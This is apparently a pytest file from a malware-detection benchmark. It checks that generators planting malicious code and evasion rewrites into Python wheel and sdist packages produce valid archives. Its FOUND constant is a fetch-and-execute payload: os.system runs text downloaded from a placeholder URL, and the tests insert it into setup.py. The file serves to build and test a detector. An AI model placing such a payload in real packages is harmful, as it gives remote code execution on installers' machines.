"""The generators behind the figures of detection: what they make is an ordinary archive, and has what it says."""

from __future__ import annotations

import io

import pytest
from bench.detection.evasion_forms import FORMS
from bench.detection.hijack_shapes import SHAPES
from bench.detection.repacking import Package, packed, unpacked

from gatehouse.malware.unpack.unpack import unpack
from tests.support.distributions import build_sdist, build_wheel

MODULE = (
    "import json\n"
    + "".join(f"VALUE_{number} = {number}\n" for number in range(40))
    + "\n\ndef login(user):\n    return json.dumps(user)\n"
)
FILES: dict[str, str | bytes] = {"project/__init__.py": "VERSION = '1.0'\n", "project/helper.py": MODULE}
WHEEL = unpacked(*build_wheel("project", "1.0", files=FILES))
SDIST = unpacked(
    *build_sdist("project", "1.0", files={**FILES, "setup.py": "from setuptools import setup\n\nsetup()\n"})
)
FOUND = """import os
import urllib.request

os.system(urllib.request.urlopen("https://a.invalid/" + "").read().decode())
"""


def anomalies(package: Package) -> list[str]:
    read = unpack(
        io.BytesIO(packed(package)),
        kind="bdist_wheel" if package.is_wheel else "sdist",
        archive_format="zip" if package.is_wheel else "tar.gz",
        filename=package.filename,
    )
    return [anomaly.code for anomaly in read.anomalies]


@pytest.mark.parametrize("name", SHAPES)
def test_a_planted_package_differs_from_the_real_one_by_the_plant_alone(name: str) -> None:
    planted = [(package, found) for package in (WHEEL, SDIST) if (found := SHAPES[name](package)) is not None]
    assert planted
    for package, found in planted:
        assert anomalies(found) == []
        changed = {path for path in found.files if found.files[path] != package.files.get(path)}
        assert 1 <= len(changed) <= 2
        assert package.files.keys() <= found.files.keys()


@pytest.mark.parametrize("name", FORMS)
def test_a_rewritten_package_is_one_that_can_be_read(name: str) -> None:
    made = []
    for path in ("setup.py", "project/helper.py"):
        package = SDIST.with_files({f"{SDIST.top}{path}": FOUND.encode()})
        changed = FORMS[name](package, f"{package.top}{path}")
        if changed is not None:
            made.append(changed)
            assert (anomalies(changed) == []) is (name != "polyglot")
            assert changed != package
    assert made or name == "sdk: rename-locals"  # which needs variables


def test_packing_changes_nothing() -> None:
    for package in (WHEEL, SDIST):
        again = unpacked(package.filename, packed(package))
        assert {path: text for path, text in again.files.items() if not path.endswith("RECORD")} == {
            path: text for path, text in package.files.items() if not path.endswith("RECORD")
        }
